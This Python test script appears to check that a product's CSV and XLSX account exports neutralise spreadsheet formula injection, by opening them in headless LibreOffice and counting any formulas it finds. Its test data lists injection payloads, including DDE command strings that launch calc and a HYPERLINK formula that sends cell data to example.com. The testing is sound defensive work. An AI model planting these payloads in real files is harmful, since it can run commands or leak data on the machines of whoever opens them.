"""Opens exported files in LibreOffice and counts what it would work out (RELIABILITY W6): accounts whose names a spreadsheet could take for formulas
are imported, their list is exported as CSV and XLSX, and LibreOffice writes each file again with the formulas that it found in it.

Every name has to be there as it was given, behind an apostrophe where a CSV needs one. Needs `soffice`. One JSON line; fails when a formula is found.
"""

import csv
import os
import re
import subprocess
import tempfile
import urllib.request
from html import unescape
from pathlib import Path

import _tenure

NAMES = [
    '=HYPERLINK("https://example.com/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\uff1d1+1",
    '",=1+1,"',
    "=WEBSERVICE(A1)",
    "{=SUM(1;1)}",
]


def download(address, path, key, to):
    request = urllib.request.Request(address + path, headers={"authorization": f"Bearer {key}"})
    with urllib.request.urlopen(request) as answer:
        to.write_bytes(answer.read())


def opened(file, folder):
    """How many cells LibreOffice takes for formulas, and the texts of all cells."""
    profile = f"-env:UserInstallation=file://{folder}/profile"
    filters = ["--infilter=CSV:44,34,76,1"] if file.suffix == ".csv" else []
    subprocess.run(["soffice", profile, "--headless", *filters, "--convert-to", "fods", "--outdir", folder, file], check=True, capture_output=True)
    text = (Path(folder) / f"{file.stem}.fods").read_text(encoding="utf-8")
    texts = ["\n".join(re.findall(r"<text:p[^>]*>(.*?)</text:p>", cell, re.S)) for cell in re.findall(r"<table:table-cell.*?</table:table-cell>", text, re.S)]
    plain = [unescape(re.sub(r"<text:s[^>]*/>", " ", text)) for text in texts]
    # A truth, which both formats know as such, it writes as TRUE() and FALSE().
    return len(re.findall(r'table:formula="(?!of:=(?:TRUE|FALSE)\(\)")', text)) + len(re.findall(r"<text:a\b", text)), [re.sub(r"<[^>]*>", "", text) for text in plain]


def main():
    with _tenure.server() as (address, data, _process), tempfile.TemporaryDirectory() as folder:
        source = os.path.join(folder, "names.csv")
        with open(source, "w", newline="", encoding="utf-8") as out:
            rows = csv.writer(out)
            rows.writerow(["account_id", "name", "mrr"])
            rows.writerows((f"a{at}", name, 100 + at) for at, name in enumerate(NAMES))
        _tenure.tenure("import", source, "--kind", "accounts", data=data)
        key = _tenure.tenure("key", "add", "sheets", "--scope", "read", data=data)
        _tenure.settled(address, key)
        found, missing = 0, []
        for form in ("csv", "xlsx"):
            file = Path(folder) / f"accounts-{form}.{form}"
            download(address, f"/api/v1/exports/accounts/{form}?active=any", key, file)
            formulas, texts = opened(file, folder)
            found += formulas
            missing += [(form, name) for name in NAMES if not {name, f"'{name}"} & set(texts)]
    _tenure.report(bench="spreadsheet", names=len(NAMES), files=2, formulas=found, missing=missing)
    if found or missing:
        raise SystemExit(1)


if __name__ == "__main__":
    main()
